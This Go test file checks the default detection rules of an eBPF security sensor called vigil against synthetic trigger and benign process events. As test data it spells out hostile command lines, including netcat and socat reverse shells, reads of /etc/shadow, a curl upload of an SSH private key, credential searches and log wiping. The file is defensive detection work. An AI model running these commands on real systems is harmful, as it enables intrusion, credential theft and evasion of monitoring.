package rules

import (
	"slices"
	"strings"
	"testing"

	"github.com/vigil-sensor/vigil/event"
	"golang.org/x/sys/unix"
)

// TestDefaultRulesLoad checks the embedded rules: they load cleanly, have
// MITRE tags and Falco priorities, and ask for exec, open, connect and
// io_uring.
func TestDefaultRulesLoad(t *testing.T) {
	rs, res, err := Load([]Source{Default()}, Options{Strict: true})
	if err != nil {
		for _, m := range res.Errors() {
			t.Log(m.String())
		}
		t.Fatal(err)
	}
	if w := res.Warnings(); len(w) != 0 {
		t.Errorf("warnings: %v", w)
	}
	if len(rs.Active()) < 15 {
		t.Errorf("%d active rules, want at least 15", len(rs.Active()))
	}
	for _, r := range rs.Rules() {
		mitre := false
		for _, tag := range r.Tags {
			if strings.HasPrefix(tag, "mitre_") {
				mitre = true
			}
		}
		if !mitre || !slices.ContainsFunc(r.Tags, func(s string) bool { return strings.HasPrefix(s, "T") || strings.HasPrefix(s, "TA") }) {
			t.Errorf("rule %q lacks MITRE tags: %v", r.Name, r.Tags)
		}
		if r.Desc == "" || r.Output == "" || !r.Enabled {
			t.Errorf("rule %q: desc, output or enabled missing", r.Name)
		}
	}
	if got := kindNames(rs.Kinds()); got != "exec,open,connect,priv,iouring" {
		t.Errorf("kinds %s", got)
	}
}

// TestDefaultRules runs each default rule against events that must trigger
// it and benign events (including what a `go test` run, apt and git do on
// this machine) that must not.
func TestDefaultRules(t *testing.T) {
	rs := mustLoad(t, Options{}, string(Default().Data))

	initp := proc("init", "/sbin/init", "", nil)
	initp.PID = 1
	sshd := proc("sshd", "/usr/sbin/sshd", "-D", initp)
	bash := proc("bash", "/usr/bin/bash", "", sshd)
	user := func(p *event.Process) *event.Process { p.UID, p.UserName = 1000, "alice"; return p }
	sh := func(args string) *event.Process { return proc("sh", "/usr/bin/sh", args, bash) }
	apt := proc("apt-get", "/usr/bin/apt-get", "install -y curl", bash)
	dpkg := proc("dpkg", "/usr/bin/dpkg", "--unpack x.deb", apt)
	gotest := proc("go", "/usr/local/go/bin/go", "test ./...", bash)
	runc := proc("runc", "/usr/bin/runc", "init", nil)
	shim := proc("containerd-shim", "/usr/bin/containerd-shim-runc-v2", "", initp)
	c := ctr("c0ffee123456")

	exec := func(p *event.Process, cn *event.Container) *event.Event { return execEvent(p, cn) }
	read := func(p *event.Process, path string) *event.Event {
		return openEvent(p, nil, path, unix.O_RDONLY|unix.O_CLOEXEC, 3)
	}
	write := func(p *event.Process, path string, flags uint32) *event.Event {
		return openEvent(p, nil, path, unix.O_WRONLY|unix.O_CREAT|flags, 4)
	}
	memfd := proc("x", "memfd:x (deleted)", "", bash)
	memfd.ExeFromMemfd = true
	runcMemfd := proc("runc:[1:CHILD]", "memfd:runc_cloned:/proc/self/exe", "init", shim)
	runcMemfd.ExeFromMemfd = true
	deleted := proc("payload", "/home/alice/payload (deleted)", "", bash)
	deleted.ExeDeleted = true
	// A dropper's usual form: written to /tmp, unlinked, run with fexecve.
	deletedTmp := proc("3", "/tmp/.x/payload (deleted)", "", bash)
	deletedTmp.ExeDeleted = true
	// Names the caller chose: a link named like an exempt program resolves
	// to what it points at, and comm is the link's name.
	fakeApt := proc("apt", "/usr/bin/bash", "-c cat /etc/shadow; true", bash)
	fakeSshd := proc("sshd", "/usr/bin/cat", "/etc/shadow", bash)
	truncatedArgs := func(p *event.Process) *event.Process { p.ArgsTruncated = true; return p }
	uring := func(p *event.Process, op uint8, path string) *event.Event {
		e := &event.Event{Type: event.TypeIOUringSubmit, Num: 5, PID: p.PID, TID: p.PID, Proc: p}
		e.IOUring.Op, e.IOUring.FD1, e.IOUring.Path1 = op, -100, []byte(path)
		return e
	}
	uringSetup := &event.Event{Type: event.TypeIOUringSetup, Num: 6, Proc: bash, Res: 3}
	// target gives p the file its interpreter or loader runs (proc.target).
	target := func(p *event.Process, file string) *event.Process { p.Target = file; return p }
	truncatedExe := proc("x", "/a/a/a/a/x", "", bash)
	truncatedExe.ExeTruncated = true
	// runc as containerd runs it: `runc create` re-executes itself from a
	// memfd, and so does the `runc init` it starts.
	runcCreate := proc("runc", "memfd:runc_cloned:/proc/self/exe", "create", shim)
	runcCreate.ExeFromMemfd = true
	runcInit := proc("runc:[2:INIT]", "memfd:runc_cloned:/proc/self/exe", "init", runcCreate)
	runcInit.ExeFromMemfd = true
	// The same names chosen by a user's program: comm runc, the memfd
	// named as runc names its own, started by a shell.
	fakeRunc := proc("runc", "memfd:runc_cloned:/proc/self/exe", "init", bash)
	fakeRunc.ExeFromMemfd = true
	fakeRuncChild := proc("runc:[2:INIT]", "memfd:runc_cloned:/proc/self/exe", "init", fakeRunc)
	fakeRuncChild.ExeFromMemfd = true
	bpfEvent := func(p *event.Process, cmd, typ, id int64, vigil bool) *event.Event {
		e := &event.Event{Type: event.TypeBpf, Num: 4, Time: 1_700_000_000_123_456_789, PID: p.PID, TID: p.PID, Proc: p}
		e.Priv.Args = [3]int64{cmd, typ, id}
		e.Priv.TargetVigil = vigil
		return e
	}
	bpftool := proc("bpftool", "/usr/sbin/bpftool", "map update id 12 key 4 0 0 0 value 0 0 0 0", bash)
	// via names an open's file otherwise than the kernel resolved it: a
	// symlink, or a relative path, that the caller chose.
	via := func(e *event.Event, name string) *event.Event {
		e.Open.Name, e.Open.Raw = []byte(name), []byte(name)
		return e
	}

	tests := []struct {
		rule    string
		trigger []*event.Event
		benign  []*event.Event
	}{
		{"Shell Spawned in Container",
			[]*event.Event{exec(proc("bash", "/bin/bash", "", runc), c), exec(proc("sh", "/bin/sh", "-c id", shim), c),
				exec(proc("nginx", "/usr/bin/bash", "", runc), c)},
			[]*event.Event{exec(sh("-c id"), nil), exec(proc("nginx", "/usr/sbin/nginx", "", runc), c)}},
		{"Execution from Temporary Directory",
			[]*event.Event{exec(proc("x", "/tmp/x", "", bash), nil), exec(proc("kinsing", "/var/tmp/.k/kinsing", "", sh("")), c),
				exec(target(proc("s.sh", "/usr/bin/dash", "/tmp/s.sh", bash), "/tmp/s.sh"), nil),
				exec(target(proc("bash", "/usr/bin/bash", "/tmp/s.sh", bash), "/tmp/s.sh"), nil),
				exec(target(proc("ld-linux-x86-64", "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "/tmp/x", bash), "/tmp/x"), nil),
				exec(target(proc("bash", "/tmp/go-build1/bash", "/tmp/s.sh", gotest), "/tmp/s.sh"), nil),
				// A directory named like the Go toolchain's, without it.
				exec(proc("x", "/tmp/go-build1/x", "", bash), nil),
				func() *event.Event {
					p := proc("x", "/mnt/b/x", "", bash)
					p.ExeRootPath = "/tmp/b/x"
					return exec(p, nil)
				}()},
			[]*event.Event{
				exec(proc("rules.test", "/tmp/go-build123/b001/rules.test", "-test.v", gotest), nil),
				exec(proc("main", "/tmp/go-build42/b001/exe/main", "", gotest), nil),
				// A test binary re-executing itself as a helper.
				exec(proc("rules.test", "/tmp/go-build123/b001/rules.test", "helper",
					proc("rules.test", "/tmp/go-build123/b001/rules.test", "-test.v", gotest)), nil),
				exec(proc("tmpfoo", "/usr/bin/tmpfoo", "", bash), nil),
				exec(proc("postinst", "/tmp/postinst", "configure", dpkg), nil),
				exec(target(proc("bash", "/usr/bin/bash", "/srv/app/run.sh", bash), "/srv/app/run.sh"), nil),
				exec(sh("-c /tmp/x"), nil),
			}},
		{"Execution from Unresolvable Path",
			[]*event.Event{exec(truncatedExe, nil)},
			[]*event.Event{exec(proc("x", "/a/a/a/a/x", "", bash), nil), exec(proc("ls", "/usr/bin/ls", "", bash), nil)}},
		{"Tampering with vigil's BPF Objects",
			[]*event.Event{bpfEvent(bpftool, 2, event.BPFObjMap, 12, true), bpfEvent(bpftool, 34, event.BPFObjLink, 3, true),
				bpfEvent(proc("x", "/tmp/x", "", bash), 6, event.BPFObjProg, 40, true)},
			[]*event.Event{bpfEvent(bpftool, 2, event.BPFObjMap, 13, false), bpfEvent(bpftool, 1, event.BPFObjMap, 12, true),
				bpfEvent(bpftool, 14, event.BPFObjMap, 12, true)}},
		{"Execution from Shared Memory",
			[]*event.Event{exec(proc("x", "/dev/shm/x", "", bash), nil),
				exec(target(proc("python3", "/usr/bin/python3.11", "/dev/shm/p.py", bash), "/dev/shm/p.py"), nil)},
			[]*event.Event{exec(proc("ls", "/usr/bin/ls", "/dev/shm", bash), nil)}},
		{"Fileless Execution via memfd",
			[]*event.Event{exec(memfd, nil), exec(fakeRunc, nil), exec(fakeRuncChild, nil)},
			[]*event.Event{exec(runcMemfd, nil), exec(runcCreate, nil), exec(runcInit, nil), exec(proc("ls", "/usr/bin/ls", "", bash), nil)}},
		{"Execution of Deleted Binary",
			[]*event.Event{exec(deleted, nil), exec(deletedTmp, nil)},
			[]*event.Event{exec(memfd, nil), exec(proc("ls", "/usr/bin/ls", "", bash), nil)}},
		{"Package Manager Run in Container",
			[]*event.Event{exec(proc("apt-get", "/usr/bin/apt-get", "install nmap", sh("")), c), exec(proc("apk", "/sbin/apk", "add curl", runc), c),
				exec(proc("apk", "/tmp/apk", "add curl", sh("")), c),
				exec(proc("x", "/usr/bin/apt-get", "install nmap", proc("apt", "/usr/bin/bash", "", runc)), c)},
			[]*event.Event{exec(apt, nil), exec(proc("dpkg", "/usr/bin/dpkg", "", proc("apt-get", "/usr/bin/apt-get", "", runc)), c)}},
		{"Netcat or Socat Reverse Shell",
			[]*event.Event{
				exec(proc("nc", "/usr/bin/nc", "-e /bin/sh 10.0.0.1 4444", bash), nil),
				exec(proc("ncat", "/usr/bin/ncat", "10.0.0.1 4444 --sh-exec /bin/bash", bash), c),
				exec(proc("nc.traditional", "/usr/bin/nc.traditional", "-lvp 4444 -e /bin/bash", bash), nil),
				exec(proc("socat", "/usr/bin/socat", "TCP:10.0.0.1:4444 EXEC:/bin/bash,pty,stderr", bash), nil),
				exec(proc("nc", "/tmp/nc", "-e /bin/sh 10.0.0.1 4444", bash), nil),
				exec(proc("nc", "/usr/bin/nc", "-ve /bin/sh 10.0.0.1 4444", bash), nil),
				exec(proc("nc", "/usr/bin/nc", "-lvnpe 4444 /bin/sh", bash), nil),
				exec(truncatedArgs(proc("nc", "/usr/bin/nc", "-v -v -v", bash)), nil),
				// Renamed or linked: the resolved executable, or busybox's
				// applet chosen by argv[0], still says netcat.
				exec(proc("backup", "/usr/bin/nc.traditional", "-e /bin/sh 10.0.0.1 4444", bash), nil),
				exec(proc("x", "/usr/bin/socat", "TCP:10.0.0.1:4444 EXEC:/bin/bash", bash), nil),
				func() *event.Event {
					p := proc("x", "/usr/bin/busybox", "10.0.0.1 4444 -e /bin/sh", bash)
					p.Exe = "nc"
					return exec(p, nil)
				}(),
				func() *event.Event {
					p := proc("busybox", "/usr/bin/busybox", "nc -e /bin/sh 10.0.0.1 4444", bash)
					p.Exe = "busybox"
					return exec(p, nil)
				}(),
			},
			[]*event.Event{
				exec(proc("nc", "/usr/bin/nc", "-zv my-example.com 443", bash), nil),
				exec(proc("socat", "/usr/bin/socat", "TCP-LISTEN:8080,fork TCP:localhost:80", bash), nil),
			}},
		{"Search for Private Keys or Credentials",
			[]*event.Event{
				exec(proc("find", "/usr/bin/find", "/ -name id_rsa", bash), nil),
				exec(proc("find", "/usr/bin/find", "/home -path *.aws/credentials", bash), nil),
				exec(proc("grep", "/usr/bin/grep", "-r aws_secret_access_key /", bash), nil),
				exec(proc("grep", "/usr/bin/grep", "-rl BEGIN OPENSSH /home", bash), nil),
			},
			[]*event.Event{
				exec(proc("find", "/usr/bin/find", ". -name *.go", gotest), nil),
				exec(proc("grep", "/usr/bin/grep", "-rn TODO .", bash), nil),
			}},
		{"Read Shadow or Sudoers File",
			[]*event.Event{read(user(proc("cat", "/usr/bin/cat", "/etc/shadow", bash)), "/etc/shadow"),
				read(proc("python3", "/usr/bin/python3", "dump.py", bash), "/etc/sudoers.d/90-cloud"),
				read(proc("python3", "/usr/bin/python3", "dump.py", bash), "/etc/gshadow"),
				read(fakeSshd, "/etc/shadow"),
				read(proc("cat", "/usr/bin/cat", "/etc/shadow", fakeApt), "/etc/shadow"),
				// Through a symlink: the file reached counts.
				via(read(proc("cat", "/usr/bin/cat", "/tmp/x/notes", bash), "/etc/shadow"), "/tmp/x/notes")},
			[]*event.Event{read(proc("sudo", "/usr/bin/sudo", "ls", bash), "/etc/sudoers"),
				read(proc("unix_chkpwd", "/usr/sbin/unix_chkpwd", "", sshd), "/etc/shadow"),
				read(proc("cat", "/usr/bin/cat", "", bash), "/etc/passwd"),
				read(proc("useradd", "/usr/sbin/useradd", "", dpkg), "/etc/shadow"),
				read(proc("chage", "/usr/bin/chage", "-l root", bash), "/etc/shadow"),
				read(proc("cat", "/usr/bin/cat", "/etc/shadow", proc("sh", "/usr/bin/dash", "-c cat /etc/shadow", dpkg)), "/etc/shadow"),
				openEvent(proc("cat", "/usr/bin/cat", "", bash), nil, "/etc/shadow", unix.O_RDONLY, -int64(unix.EACCES)),
				via(read(proc("cat", "/usr/bin/cat", "", bash), "/tmp/x/notes"), "/etc/shadow")}},
		{"Read SSH Private Key",
			[]*event.Event{read(proc("curl", "/usr/bin/curl", "-F f=@/root/.ssh/id_rsa", bash), "/root/.ssh/id_rsa"),
				read(proc("python3", "/usr/bin/python3", "", bash), "/etc/ssh/ssh_host_ed25519_key"),
				read(proc("ssh-add", "/usr/bin/cat", "/root/.ssh/id_rsa", bash), "/root/.ssh/id_rsa")},
			[]*event.Event{read(proc("ssh", "/usr/bin/ssh", "git@github.com", proc("git", "/usr/bin/git", "fetch", bash)), "/root/.ssh/id_ed25519"),
				read(proc("sshd", "/usr/sbin/sshd", "", initp), "/etc/ssh/ssh_host_ed25519_key"),
				read(proc("cat", "/usr/bin/cat", "", bash), "/root/.ssh/id_rsa.pub"),
				read(proc("cat", "/usr/bin/cat", "", bash), "/etc/ssh/ssh_host_ed25519_key.pub")}},
		{"Write Below Binary Directory",
			[]*event.Event{write(proc("cp", "/usr/bin/cp", "x /usr/bin/ls", bash), "/usr/bin/ls", unix.O_TRUNC),
				write(proc("curl", "/usr/bin/curl", "-o /usr/local/bin/x", bash), "/usr/local/bin/x", 0),
				via(write(proc("cp", "/usr/bin/cp", "x /tmp/innocent", bash), "/usr/bin/ls", unix.O_TRUNC), "/tmp/innocent")},
			[]*event.Event{write(dpkg, "/usr/bin/curl.dpkg-new", 0),
				write(proc("go", "/usr/local/go/bin/go", "install", bash), "/root/go/bin/tool", 0),
				read(proc("ls", "/usr/bin/ls", "", bash), "/usr/bin/ls")}},
		{"Write Below Library Directory",
			[]*event.Event{write(proc("cp", "/usr/bin/cp", "evil.so /lib/x86_64-linux-gnu/libc.so.6", bash), "/lib/x86_64-linux-gnu/libc.so.6", unix.O_TRUNC),
				// The exception holds for the file reached, not for a
				// name through a directory link called __pycache__.
				via(write(proc("cp", "/usr/bin/cp", "", bash), "/usr/lib/x86_64-linux-gnu/libc.so.6", unix.O_TRUNC), "/tmp/__pycache__/libc.so.6")},
			[]*event.Event{write(proc("ldconfig", "/usr/sbin/ldconfig", "", dpkg), "/usr/lib/x.so", 0),
				write(proc("python3", "/usr/bin/python3", "", bash), "/usr/lib/python3/dist-packages/__pycache__/a.cpython-311.pyc", 0),
				write(proc("py3compile", "/usr/bin/python3.11", "/usr/bin/py3compile -p x", dpkg), "/usr/lib/python3/x.pyc", 0)}},
		{"Write Below Etc",
			[]*event.Event{write(proc("python3", "/usr/bin/python3", "", bash), "/etc/ld.so.preload", 0),
				via(write(proc("python3", "/usr/bin/python3", "", bash), "/etc/ld.so.preload", 0), "/proc/self/cwd/ld.so.preload"),
				write(proc("tee", "/usr/bin/tee", "-a /etc/passwd", proc("sudo", "/usr/bin/sudo", "", bash)), "/etc/passwd", unix.O_APPEND)},
			[]*event.Event{write(proc("apt-get", "/usr/bin/apt-get", "", bash), "/etc/apt/sources.list.d/x.list", 0),
				write(proc("sh", "/usr/bin/sh", "postinst", dpkg), "/etc/default/x", 0),
				write(proc("dhclient", "/usr/sbin/dhclient", "", initp), "/etc/resolv.conf", unix.O_TRUNC),
				via(write(proc("python3", "/usr/bin/python3", "", bash), "/run/systemd/resolve/stub-resolv.conf", unix.O_TRUNC), "/etc/resolv.conf"),
				write(proc("useradd", "/usr/sbin/useradd", "bob", bash), "/etc/passwd+", 0),
				write(proc("git", "/usr/bin/git", "commit", bash), "/root/src/.git/index.lock", 0),
				read(proc("cat", "/usr/bin/cat", "", bash), "/etc/hosts")}},
		{"Modify SSH Authorized Keys",
			[]*event.Event{write(proc("sh", "/usr/bin/sh", "-c cat >> ~/.ssh/authorized_keys", sshd), "/root/.ssh/authorized_keys", unix.O_APPEND)},
			[]*event.Event{read(proc("sshd", "/usr/sbin/sshd", "", initp), "/root/.ssh/authorized_keys")}},
		{"Write to Cron Configuration",
			[]*event.Event{write(proc("crontab", "/usr/bin/crontab", "-", bash), "/var/spool/cron/crontabs/root", 0),
				write(proc("bash", "/usr/bin/bash", "", sshd), "/etc/cron.d/persist", 0),
				write(proc("vi", "/usr/bin/vi", "/etc/crontab", bash), "/etc/crontab", unix.O_TRUNC)},
			[]*event.Event{read(proc("cron", "/usr/sbin/cron", "", initp), "/etc/crontab"),
				write(dpkg, "/etc/cron.daily/apt-compat", 0)}},
		{"Truncate Log File",
			[]*event.Event{write(proc("bash", "/usr/bin/bash", "", sshd), "/var/log/auth.log", unix.O_TRUNC),
				// truncate(1) opens without O_TRUNC and calls ftruncate.
				write(proc("truncate", "/usr/bin/truncate", "-s 0 /var/log/auth.log", bash), "/var/log/auth.log", 0),
				write(proc("shred", "/usr/bin/shred", "-u /var/log/wtmp", bash), "/var/log/wtmp", 0)},
			[]*event.Event{write(proc("logrotate", "/usr/sbin/logrotate", "", initp), "/var/log/syslog", unix.O_TRUNC),
				write(proc("rsyslogd", "/usr/sbin/rsyslogd", "", initp), "/var/log/syslog", unix.O_APPEND),
				write(proc("bash", "/usr/bin/bash", "", sshd), "/var/log/app.log", unix.O_APPEND)}},
		{"Outbound Connection by Non-Network Program",
			[]*event.Event{connectEvent(bash, nil, "10.0.0.5:40000", "203.0.113.7:4444", 0),
				connectEvent(proc("backup", "/usr/bin/bash", "-i", bash), nil, "10.0.0.5:40000", "203.0.113.7:4444", 0),
				connectEvent(proc("sh", "/bin/sh", "", runc), c, "172.17.0.2:40000", "203.0.113.7:443", -int64(unix.EINPROGRESS))},
			[]*event.Event{connectEvent(bash, nil, "127.0.0.1:40000", "127.0.0.1:8080", 0),
				connectEvent(proc("curl", "/usr/bin/curl", "", bash), nil, "10.0.0.5:40000", "203.0.113.7:443", 0),
				connectEvent(proc("git-remote-http", "/usr/lib/git-core/git-remote-http", "", bash), nil, "10.0.0.5:40000", "140.82.121.3:443", 0),
				connectEvent(proc("http", "/usr/lib/apt/methods/http", "", apt), nil, "10.0.0.5:40000", "151.101.2.132:80", 0),
				connectEvent(bash, nil, "10.0.0.5:40000", "203.0.113.7:4444", -int64(unix.ECONNREFUSED))}},
		{"File Operation through io_uring",
			[]*event.Event{uring(user(proc("x", "/tmp/x", "", bash)), 18, "/etc/shadow"),
				uring(proc("x", "/usr/bin/python3", "x.py", bash), 28, "/home/alice/.ssh/id_rsa"),
				uring(proc("x", "/tmp/x", "", bash), 36, "/var/log/auth.log"),
				uring(proc("x", "/tmp/x", "", bash), 35, "/etc/passwd"),
				// A link named like a package manager is not one.
				uring(proc("apt", "/usr/bin/bash", "", bash), 18, "/etc/shadow")},
			[]*event.Event{uring(proc("x", "/tmp/x", "", bash), 22, ""), uring(proc("x", "/tmp/x", "", bash), 16, ""),
				uring(proc("dpkg", "/usr/bin/dpkg", "", apt), 18, "/var/lib/dpkg/status"), uringSetup,
				read(proc("cat", "/usr/bin/cat", "/etc/hosts", bash), "/etc/hosts")}},
		{"Container Contacts Cloud Metadata Service",
			[]*event.Event{connectEvent(proc("curl", "/usr/bin/curl", "http://169.254.169.254/latest/meta-data/", runc), c, "172.17.0.2:40000", "169.254.169.254:80", 0)},
			[]*event.Event{connectEvent(proc("cloud-init", "/usr/bin/cloud-init", "", initp), nil, "10.0.0.5:40000", "169.254.169.254:80", 0),
				connectEvent(proc("curl", "/usr/bin/curl", "", runc), c, "172.17.0.2:40000", "93.184.216.34:80", 0)}},
	}
	tested := map[string]bool{}
	for _, tt := range tests {
		if rs.Rule(tt.rule) == nil {
			t.Errorf("no default rule %q", tt.rule)
			continue
		}
		tested[tt.rule] = true
		for i, e := range tt.trigger {
			// The agent reports the first matching rule of an event
			// (Falco's rule_matching: first): the rule must not be
			// shadowed by a more general one.
			first := ""
			rs.Match(e, func(r *Rule) { first = r.Name })
			if first != tt.rule {
				t.Errorf("%s: trigger %d (%s %s) reported as %q (all matches: %v)", tt.rule, i, e.Proc.Cmdline, e.Open.Name, first, matches(rs, e))
			}
		}
		for i, e := range tt.benign {
			if got := matches(rs, e); slices.Contains(got, tt.rule) {
				t.Errorf("%s: benign %d (%s %s) matched", tt.rule, i, e.Proc.Cmdline, e.Open.Name)
			}
		}
	}
	for _, r := range rs.Rules() {
		if !tested[r.Name] {
			t.Errorf("default rule %q has no test", r.Name)
		}
	}
}
